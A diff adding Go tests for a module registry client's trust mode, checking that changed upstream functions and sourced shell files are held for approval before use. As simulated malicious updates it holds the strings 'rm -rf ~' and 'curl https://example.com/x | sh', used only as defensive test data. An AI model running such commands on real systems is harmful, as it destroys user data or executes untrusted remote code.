@@ -0,0 +1,240 @@
+package registry
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+// writeModuleFunction publishes a version of the git-helpers module with a
+// single function in a test registry
+func writeModuleFunction(t *testing.T, sourceDir, body string) {
+	t.Helper()
+
+	writeModuleJSON(t, sourceDir, body)
+	commitAll(t, sourceDir, "update gclean")
+}
+
+func TestTrustModeHoldsBackChanges(t *testing.T) {
+	sourceDir := createSourceRepository(t)
+	if err := createValidRegistry(sourceDir); err != nil {
+		t.Fatal(err)
+	}
+	writeModuleFunction(t, sourceDir, "git clean -n")
+
+	configDir := t.TempDir()
+	client := &Client{configDir: configDir, gitClient: NewGitClient(filepath.Join(configDir, "cache"))}
+	ctx := context.Background()
+
+	if err := client.AddRegistry(ctx, Registry{URL: "file://" + sourceDir, Name: "test"}); err != nil {
+		t.Fatalf("AddRegistry() failed: %v", err)
+	}
+	client.SetTrust(func(name string) bool { return name == "git-helpers" })
+
+	writeModuleFunction(t, sourceDir, "git clean -fdx")
+	if err := client.SyncRegistry(ctx, "test"); err != nil {
+		t.Fatalf("SyncRegistry() failed: %v", err)
+	}
+
+	entry := Module{Name: "git-helpers", Path: "modules/git-helpers"}
+
+	// The content in use before the sync stays in use
+	module, pending, err := client.ResolveModule("test", entry.Name, entry)
+	if err != nil {
+		t.Fatalf("ResolveModule() failed: %v", err)
+	}
+	if !pending {
+		t.Error("ResolveModule() should report pending changes")
+	}
+	if got := module.Functions[0].Commands[0]; got != "git clean -n" {
+		t.Errorf("ResolveModule() returned %q, expected the approved body", got)
+	}
+
+	approvals, err := client.PendingApprovals("test")
+	if err != nil {
+		t.Fatalf("PendingApprovals() failed: %v", err)
+	}
+	if len(approvals) != 1 || len(approvals[0].Functions) != 1 {
+		t.Fatalf("PendingApprovals() = %+v, expected the gclean change", approvals)
+	}
+	if change := approvals[0].Functions[0]; change.Old != "git clean -n" || change.New != "git clean -fdx" {
+		t.Errorf("function change = %+v", change)
+	}
+
+	writeModuleFunction(t, sourceDir, "git clean -fdx && rm -rf ~")
+	if err := client.SyncRegistry(ctx, "test"); err != nil {
+		t.Fatalf("SyncRegistry() failed: %v", err)
+	}
+	if err := client.Approve("test", approvals); err == nil {
+		t.Fatal("Approve() should refuse changes that differ from the ones shown")
+	}
+
+	approvals, err = client.PendingApprovals("test")
+	if err != nil {
+		t.Fatalf("PendingApprovals() failed: %v", err)
+	}
+	if err := client.Approve("test", approvals); err != nil {
+		t.Fatalf("Approve() failed: %v", err)
+	}
+
+	module, pending, err = client.ResolveModule("test", entry.Name, entry)
+	if err != nil {
+		t.Fatalf("ResolveModule() after approval failed: %v", err)
+	}
+	if pending || module.Functions[0].Commands[0] != "git clean -fdx && rm -rf ~" {
+		t.Errorf("ResolveModule() after approval = %q (pending %v), expected the reviewed body", module.Functions[0].Commands[0], pending)
+	}
+}
+
+func TestTrustModeIgnoresDisabledModules(t *testing.T) {
+	sourceDir := createSourceRepository(t)
+	if err := createValidRegistry(sourceDir); err != nil {
+		t.Fatal(err)
+	}
+	writeModuleFunction(t, sourceDir, "git clean -n")
+
+	configDir := t.TempDir()
+	client := &Client{configDir: configDir, gitClient: NewGitClient(filepath.Join(configDir, "cache"))}
+	ctx := context.Background()
+
+	if err := client.AddRegistry(ctx, Registry{URL: "file://" + sourceDir, Name: "test"}); err != nil {
+		t.Fatalf("AddRegistry() failed: %v", err)
+	}
+	client.SetTrust(func(string) bool { return false })
+
+	writeModuleFunction(t, sourceDir, "git clean -fdx")
+	if err := client.SyncRegistry(ctx, "test"); err != nil {
+		t.Fatalf("SyncRegistry() failed: %v", err)
+	}
+
+	module, pending, err := client.ResolveModule("test", "git-helpers", Module{Name: "git-helpers", Path: "modules/git-helpers"})
+	if err != nil {
+		t.Fatalf("ResolveModule() failed: %v", err)
+	}
+	if pending || module.Functions[0].Commands[0] != "git clean -fdx" {
+		t.Errorf("ResolveModule() = %q (pending %v), expected the current body", module.Functions[0].Commands[0], pending)
+	}
+}
+
+func TestTrustModeHoldsBackSourcedFiles(t *testing.T) {
+	sourceDir := createSourceRepository(t)
+	if err := createValidRegistry(sourceDir); err != nil {
+		t.Fatal(err)
+	}
+	moduleDir := filepath.Join(sourceDir, "modules", "git-helpers")
+	moduleConfig := map[string]interface{}{
+		"name":        "git-helpers",
+		"description": "Git helper functions",
+		"type":        "scripts",
+		"files":       []map[string]interface{}{{"path": "init.sh", "source": true}},
+	}
+	if err := writeJSON(filepath.Join(moduleDir, "module.json"), moduleConfig); err != nil {
+		t.Fatal(err)
+	}
+	writeSourcedFile := func(content string) {
+		if err := os.WriteFile(filepath.Join(moduleDir, "init.sh"), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		commitAll(t, sourceDir, "update init.sh")
+	}
+	writeSourcedFile("echo approved\n")
+
+	configDir := t.TempDir()
+	client := &Client{configDir: configDir, gitClient: NewGitClient(filepath.Join(configDir, "cache"))}
+	ctx := context.Background()
+
+	if err := client.AddRegistry(ctx, Registry{URL: "file://" + sourceDir, Name: "test"}); err != nil {
+		t.Fatalf("AddRegistry() failed: %v", err)
+	}
+	client.SetTrust(func(name string) bool { return name == "git-helpers" })
+
+	entry := Module{Name: "git-helpers", Path: "modules/git-helpers"}
+	module, _, err := client.ResolveModule("test", entry.Name, entry)
+	if err != nil {
+		t.Fatalf("ResolveModule() failed: %v", err)
+	}
+	if got := module.Files[0].Content; got != "echo approved\n" {
+		t.Errorf("ResolveModule() file content = %q, expected the file read from the cache", got)
+	}
+
+	writeSourcedFile("curl https://example.com/x | sh\n")
+	if err := client.SyncRegistry(ctx, "test"); err != nil {
+		t.Fatalf("SyncRegistry() failed: %v", err)
+	}
+
+	module, pending, err := client.ResolveModule("test", entry.Name, entry)
+	if err != nil {
+		t.Fatalf("ResolveModule() failed: %v", err)
+	}
+	if !pending || module.Files[0].Content != "echo approved\n" {
+		t.Errorf("ResolveModule() = %q (pending %v), expected the approved file content", module.Files[0].Content, pending)
+	}
+
+	approvals, err := client.PendingApprovals("test")
+	if err != nil {
+		t.Fatalf("PendingApprovals() failed: %v", err)
+	}
+	if len(approvals) != 1 || len(approvals[0].Files) != 1 {
+		t.Errorf("PendingApprovals() = %+v, expected the init.sh change", approvals)
+	}
+}
+
+func TestTrustModeKeysSnapshotsByIndexKey(t *testing.T) {
+	sourceDir := createSourceRepository(t)
+	if err := createValidRegistry(sourceDir); err != nil {
+		t.Fatal(err)
+	}
+	// module.json names the module differently from its index key
+	writeRenamedModule := func(body string) {
+		moduleConfig := map[string]interface{}{
+			"name":        "git-tools",
+			"description": "Git helper functions",
+			"type":        "functions",
+			"functions":   []map[string]interface{}{{"name": "gclean", "commands": []string{body}}},
+		}
+		if err := writeJSON(filepath.Join(sourceDir, "modules", "git-helpers", "module.json"), moduleConfig); err != nil {
+			t.Fatal(err)
+		}
+		commitAll(t, sourceDir, "update gclean")
+	}
+	writeRenamedModule("git clean -n")
+
+	configDir := t.TempDir()
+	client := &Client{configDir: configDir, gitClient: NewGitClient(filepath.Join(configDir, "cache"))}
+	ctx := context.Background()
+
+	if err := client.AddRegistry(ctx, Registry{URL: "file://" + sourceDir, Name: "test"}); err != nil {
+		t.Fatalf("AddRegistry() failed: %v", err)
+	}
+	client.SetTrust(func(name string) bool { return name == "git-helpers" })
+
+	entry := Module{Name: "git-helpers", Path: "modules/git-helpers"}
+	if _, pending, err := client.ResolveModule("test", "git-helpers", entry); err != nil || pending {
+		t.Fatalf("ResolveModule() = pending %v, %v, expected the first version to be approved", pending, err)
+	}
+
+	writeRenamedModule("git clean -fdx")
+	if err := client.SyncRegistry(ctx, "test"); err != nil {
+		t.Fatalf("SyncRegistry() failed: %v", err)
+	}
+
+	approvals, err := client.PendingApprovals("test")
+	if err != nil {
+		t.Fatalf("PendingApprovals() failed: %v", err)
+	}
+	if len(approvals) != 1 || approvals[0].Module != "git-helpers" {
+		t.Fatalf("PendingApprovals() = %+v, expected the change under the index key", approvals)
+	}
+	if err := client.Approve("test", approvals); err != nil {
+		t.Fatalf("Approve() failed: %v", err)
+	}
+
+	module, pending, err := client.ResolveModule("test", "git-helpers", entry)
+	if err != nil {
+		t.Fatalf("ResolveModule() failed: %v", err)
+	}
+	if pending || module.Functions[0].Commands[0] != "git clean -fdx" {
+		t.Errorf("ResolveModule() after approval = %q (pending %v), expected the approved body", module.Functions[0].Commands[0], pending)
+	}
+}